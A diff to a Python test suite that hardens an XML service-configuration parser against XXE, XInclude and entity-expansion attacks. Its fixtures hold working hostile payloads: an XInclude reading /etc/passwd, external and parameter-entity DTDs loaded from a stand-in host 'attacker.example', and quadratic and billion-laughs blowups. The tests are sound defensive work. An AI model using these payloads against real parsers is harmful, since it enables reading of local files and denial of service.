@@ -361,6 +361,25 @@ def test_parse_keeps_case_and_absent_algorithm() -> None:
     ]
 
 
+def test_xinclude_is_not_processed() -> None:
+    # ElementTree has no XInclude unless asked (ElementInclude): the element is inert.
+    document = one_cert(OLD1).replace(
+        "<Instances",
+        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
+        'parse="text"/><Instances',
+    )
+
+    assert [c.thumbprint for c in parse(document).certificates] == [OLD1]
+    assert "root:" not in rewrite(document, {OLD1: NEW1})
+
+
+def test_deep_nesting_within_the_size_limit_is_harmless() -> None:
+    depth = 50_000  # 350 kB of <x>…</x>: linear work (it was quadratic: 9 s here)
+    document = one_cert(OLD1).replace("<Instances", "<x>" * depth + "</x>" * depth + "<Instances")
+
+    assert rewrite(document, {OLD1: NEW1}) == document.replace(OLD1, NEW1)
+
+
 def test_parse_accepts_exactly_the_size_limit() -> None:
     cscfg = one_cert(OLD1)
     cscfg += " " * (MAX_CSCFG_CHARS - len(cscfg))
@@ -381,6 +400,18 @@ XXE = f"""<?xml version="1.0"?>
 <ServiceConfiguration serviceName="&xxe;" xmlns="{NS}"/>"""
 EXTERNAL_DTD = f"""<!DOCTYPE ServiceConfiguration SYSTEM "http://attacker.example/x.dtd">
 <ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
+PARAMETER_ENTITY = f"""<?xml version="1.0"?>
+<!DOCTYPE ServiceConfiguration [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]>
+<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
+QUADRATIC_BLOWUP = f"""<?xml version="1.0"?>
+<!DOCTYPE ServiceConfiguration [<!ENTITY a "{"x" * 50_000}">]>
+<ServiceConfiguration serviceName="{"&a;" * 5_000}" xmlns="{NS}"/>"""
+PUBLIC_DTD = f"""<!DOCTYPE ServiceConfiguration PUBLIC "-//Attacker//DTD x//EN"
+  "http://attacker.example/x.dtd">
+<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
+# A DOCTYPE with nothing in it declares no entity, but is refused all the same.
+EMPTY_DOCTYPE = f"""<!DOCTYPE ServiceConfiguration>
+<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
 WHERE = "role 'WebRole1' certificate 'SslCert'"
 NOT_40_HEX = "is not exactly 40 hexadecimal digits"
 
@@ -389,6 +420,16 @@ BAD_INPUTS: list[tuple[str, str, str]] = [
     ("xxe_external_entity", XXE, "DOCTYPE/DTD"),
     ("external_dtd", EXTERNAL_DTD, "DOCTYPE/DTD"),
     ("billion_laughs", BILLION_LAUGHS, "DOCTYPE/DTD"),
+    ("parameter_entity", PARAMETER_ENTITY, "DOCTYPE/DTD"),
+    ("quadratic_blowup", QUADRATIC_BLOWUP, "DOCTYPE/DTD"),
+    ("public_dtd", PUBLIC_DTD, "DOCTYPE/DTD"),
+    ("empty_doctype", EMPTY_DOCTYPE, "DOCTYPE/DTD"),
+    ("dtd_after_bom", "\ufeff" + XXE, "DOCTYPE/DTD"),
+    (
+        "oversized_in_characters_not_bytes",
+        one_cert(OLD1).replace("Contoso", "\u00e9" * MAX_CSCFG_CHARS),
+        f"the limit of {MAX_CSCFG_CHARS}",
+    ),
     ("undeclared_entity", one_cert(OLD1, 'thumbprintAlgorithm="&xxe;"'), "undefined entity"),
     ("oversized", one_cert(OLD1) + " " * MAX_CSCFG_CHARS, f"the limit of {MAX_CSCFG_CHARS}"),
     ("empty", "", "malformed XML"),
